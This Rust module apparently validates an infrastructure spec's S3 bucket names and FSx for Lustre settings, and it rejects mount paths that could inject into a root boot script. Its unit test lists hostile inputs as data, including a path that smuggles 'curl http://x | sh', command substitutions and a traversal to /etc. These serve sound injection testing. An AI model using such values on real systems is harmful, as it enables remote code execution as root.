//! Rules for `[fsx]` and `[buckets]`.

use std::collections::HashSet;

use super::network::BUCKET_NAME_OVERHEAD;
use super::unknown_name_hint;
use crate::diag::Finding;
use crate::fsx;
use crate::model::{FsxDeployment, LustreVersion, Spec};
use crate::path;

pub(super) fn check(spec: &Spec, out: &mut Vec<Finding>) {
    check_buckets(spec, out);
    if let Some(f) = &spec.fsx {
        check_fsx(spec, f, out);
    }
}

fn check_buckets(spec: &Spec, out: &mut Vec<Finding>) {
    let room = 63usize.saturating_sub(BUCKET_NAME_OVERHEAD + spec.stack.name.len());
    for name in spec.buckets.keys() {
        let chars_ok = !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
            && !name.starts_with('-')
            && !name.ends_with('-');
        if !chars_ok || name.len() > room {
            out.push(
                Finding::error("bad-name", path!["buckets", name], format!("bucket key {name:?} cannot form an S3 bucket name"))
                    .on_key()
                    .with_hint(format!("bucket names are pipectl-<stack>-<key>-<account id>: use lower-case letters, digits and hyphens, at most {room} characters here")),
            );
        }
    }
}

fn check_fsx(spec: &Spec, f: &crate::model::Fsx, out: &mut Vec<Finding>) {
    let at = path!["fsx"];
    let rules = fsx::rules(f.deployment_type);
    match f.capacity.whole_gib() {
        Some(gib) if rules.capacity_ok(gib) => {}
        _ => out.push(
            Finding::error(
                "fsx-capacity",
                at.at("capacity"),
                format!(
                    "{} is not a capacity {} accepts",
                    f.capacity,
                    f.deployment_type.as_aws()
                ),
            )
            .with_hint(format!(
                "{}; e.g. {}",
                rules.capacity_rule,
                rules.nearest_capacities(f.capacity.gib())
            )),
        ),
    }
    match (f.throughput_per_tib, rules.throughput_options) {
        (Some(t), []) => out.push(
            Finding::error("fsx-throughput", at.at("throughput_per_tib"), format!("{} has a fixed throughput ({} MB/s per TiB); throughput_per_tib = {t} is not accepted", f.deployment_type.as_aws(), rules.baseline_per_tib))
                .with_hint("remove throughput_per_tib, or choose PERSISTENT_1 or PERSISTENT_2"),
        ),
        (Some(t), opts) if !opts.contains(&t) => out.push(
            Finding::error("fsx-throughput", at.at("throughput_per_tib"), format!("{t} MB/s per TiB is not offered for {}", f.deployment_type.as_aws()))
                .with_hint(format!("choose one of {}", list(opts))),
        ),
        (None, opts) if !opts.is_empty() => out.push(
            Finding::error("fsx-throughput", at.at("deployment_type"), format!("{} needs throughput_per_tib", f.deployment_type.as_aws()))
                .with_hint(format!("choose one of {}", list(opts))),
        ),
        _ => {}
    }
    if let Some(required) = f.required_throughput {
        let perf = fsx::performance(f);
        if required.mb_per_s() > perf.baseline_mb_s {
            let mut hint = format!(
                "{} at {} delivers {:.0} MB/s baseline",
                f.deployment_type.as_aws(),
                f.capacity,
                perf.baseline_mb_s
            );
            if let Some(burst) = perf.burst_mb_s {
                hint.push_str(&format!(" and bursts to {burst:.0} MB/s on credits"));
            }
            if let Some(fix) = fsx::cheapest_sustaining(f, required.mb_per_s()) {
                hint.push_str(&format!("; sustained {required} needs {fix}"));
            }
            out.push(
                Finding::warning(
                    "fsx-throughput-short",
                    at.at("required_throughput"),
                    format!("the file system cannot sustain the required {required}"),
                )
                .with_hint(hint),
            );
        }
    }
    if let Err(why) = plain_absolute_path(&f.mount_path) {
        // The mount path reaches the instances' boot script (run as root): only a plain path
        // passes, whatever quoting the script also does.
        out.push(
            Finding::error(
                "bad-value",
                at.at("mount_path"),
                format!("mount path {:?} {why}", f.mount_path),
            )
            .with_hint("write a plain absolute directory such as \"/fsx\": letters, digits, '.', '_', '-' and '/'"),
        );
    }
    check_lustre_version(f, out);
    check_data_repositories(spec, f, &at, out);
    if !spec.phases.iter().any(|p| spec.phase_uses_fsx(p)) {
        out.push(
            Finding::warning(
                "unused",
                at.clone(),
                "no phase mounts the FSx file system, which bills for every hour it exists",
            )
            .on_key()
            .with_hint("remove [fsx], or set uses_fsx = true on the phases that read it"),
        );
    }
}

/// Each data repository association: a known bucket, an absolute path linked once (the
/// deployment type and version: `check_lustre_version`, which refuses SCRATCH_1 and 2.10;
/// "supported on all FSx for Lustre 2.12 and 2.15 file systems, excluding scratch_1", so
/// PERSISTENT_1 too).
fn check_data_repositories(
    spec: &Spec,
    f: &crate::model::Fsx,
    at: &crate::source::Path,
    out: &mut Vec<Finding>,
) {
    let mut paths = HashSet::new();
    for (i, repo) in f.data_repositories.iter().enumerate() {
        let at = at.at("data_repositories").at(i);
        if !spec.buckets.contains_key(&repo.bucket) {
            out.push(
                Finding::error(
                    "unknown-reference",
                    at.at("bucket"),
                    format!("data repository names unknown bucket {:?}", repo.bucket),
                )
                .with_hint(unknown_name_hint(
                    "bucket",
                    &repo.bucket,
                    spec.buckets.keys(),
                )),
            );
        }
        if let Err(why) = plain_absolute_path(&repo.file_system_path) {
            out.push(
                Finding::error(
                    "bad-value",
                    at.at("file_system_path"),
                    format!("{:?} {why}", repo.file_system_path),
                )
                .with_hint("write a plain absolute directory such as \"/data\""),
            );
        }
        if !paths.insert(&repo.file_system_path) {
            out.push(Finding::error(
                "duplicate-name",
                at.at("file_system_path"),
                format!("{:?} is linked to two repositories", repo.file_system_path),
            ));
        }
    }
}

/// Whether `p` is a plain absolute directory other than `/`: ASCII letters, digits, `.`, `_`,
/// `-` and `/`, no empty, `.` or `..` component, at most 255 characters. Anything else (a
/// space, a quote, `$`, `;`, a newline) could change the meaning of the script it reaches.
pub(crate) fn plain_absolute_path(p: &str) -> Result<(), &'static str> {
    if !p.starts_with('/') {
        return Err("must be an absolute path");
    }
    if p.len() > 255 {
        return Err("is longer than 255 characters");
    }
    if !p
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/'))
    {
        return Err("may hold only letters, digits, '.', '_', '-' and '/'");
    }
    let parts: Vec<&str> = p[1..].trim_end_matches('/').split('/').collect();
    if parts == [""] {
        return Err("must be a directory other than /");
    }
    if parts
        .iter()
        .any(|c| c.is_empty() || *c == "." || *c == "..")
    {
        return Err("may not have empty, '.' or '..' components");
    }
    if parts.iter().any(|c| c.starts_with('-')) {
        return Err("may not have a component starting with '-'");
    }
    Ok(())
}

fn list(v: &[u32]) -> String {
    v.iter().map(u32::to_string).collect::<Vec<_>>().join(", ")
}

/// CreateFileSystem `FileSystemTypeVersion`: 2.10 is for SCRATCH and PERSISTENT_1 only, and is
/// what FSx makes when no version is sent; CreateDataRepositoryAssociation: "supported on all
/// FSx for Lustre 2.12 and 2.15 file systems, excluding scratch_1 deployment type".
fn check_lustre_version(f: &crate::model::Fsx, out: &mut Vec<Finding>) {
    let at = path!["fsx"];
    let version = f.effective_lustre_version();
    if version == LustreVersion::V2_10 && f.deployment_type == FsxDeployment::PERSISTENT_2 {
        out.push(
            Finding::error(
                "lustre-version",
                at.at("lustre_version"),
                "Lustre 2.10 is not available for PERSISTENT_2",
            )
            .with_hint("use lustre_version = \"2.15\" (or leave it out: 2.15 is the default)"),
        );
    }
    if f.data_repositories.is_empty() {
        return;
    }
    let at_repos = at.at("data_repositories");
    if f.deployment_type == FsxDeployment::SCRATCH_1 {
        out.push(
            Finding::error(
                "dra-unsupported",
                at_repos.clone(),
                "data repository associations are not supported on SCRATCH_1 file systems",
            )
            .with_hint("use SCRATCH_2 (same price per GB) or a PERSISTENT type"),
        );
    }
    if version == LustreVersion::V2_10 {
        out.push(
            Finding::error("dra-unsupported", at.at("lustre_version"), "data repository associations need Lustre 2.12 or later; this file system would be 2.10")
                .with_hint("use lustre_version = \"2.15\" (or leave it out: 2.15 is the default)"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::plain_absolute_path;

    #[test]
    fn only_plain_absolute_directories_pass() {
        for ok in ["/fsx", "/fsx/", "/mnt/data-1/v2.0", "/a_b"] {
            assert_eq!(plain_absolute_path(ok), Ok(()), "{ok}");
        }
        for hostile in [
            "/fsx; curl http://x | sh #",
            "/fsx\nreboot",
            "/fsx$(id)",
            "/fsx`id`",
            "/fsx'",
            "/fsx\"",
            "/fsx/../etc",
            "/fsx/./x",
            "//fsx",
            "/fsx dir",
            "/-rf",
            "fsx",
            "/",
            "",
        ] {
            assert!(plain_absolute_path(hostile).is_err(), "{hostile:?} passed");
        }
        assert!(plain_absolute_path(&format!("/{}", "a".repeat(255))).is_err());
    }
}
